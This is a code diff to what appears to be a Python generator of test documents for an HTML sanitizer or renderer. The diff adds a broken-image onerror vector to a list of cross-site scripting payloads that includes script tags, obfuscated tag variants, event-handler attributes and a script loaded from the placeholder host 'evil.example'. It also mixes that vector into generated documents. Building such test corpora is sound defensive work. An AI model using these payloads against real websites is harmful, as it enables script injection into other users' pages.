@@ -16,9 +16,13 @@ from urllib.parse import quote
 ELSEWHERE = "evil.example"
 _RUN = "alert(1)"
 _LOAD = f"//{ELSEWHERE}/x"
+# A file of ours that is no picture: its address resolves, and a browser cannot show it.
+BROKEN = "broken.png"
+OF_OURS = f"<img src={BROKEN} onerror={_RUN}>"
 
 # Elements that run or load by themselves, wait for a hand, change the page they are on.
 VECTORS: tuple[str, ...] = (
+    OF_OURS, f"<a href=x><img src={BROKEN} onload={_RUN} onerror={_RUN}></a>",
     f"<script>{_RUN}</script>", f"<script src={_LOAD}></script>", f"<ScRiPt\n>{_RUN}</sCrIpT >",
     f"<script/x>{_RUN}</script/y>", f"<<script>{_RUN}//<</script>",
     f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f'<img src="x"onerror="{_RUN}">',
@@ -128,6 +132,7 @@ def write_documents(number: int, seed: int = 8) -> Iterator[dict[str, object]]:
     for n in range(number):
         place = (PLACES + OF_MARKDOWN)[n % len(PLACES + OF_MARKDOWN)]
         body = "\n\n".join(_place(p, next(vector)) for p in (place, *chance.choices(PLACES, k=2)))
+        body = f"{OF_OURS}\n\n{body}" if n % 4 == 0 else body
         series = next(vector) if n % 5 == 0 else f"series {n % 40} {VECTORS[n % 40]}"
         yield {
             "id": f"h{n}", "title": f"piece{n} {next(vector)}", "body": f"word{n}\n\n{body}",
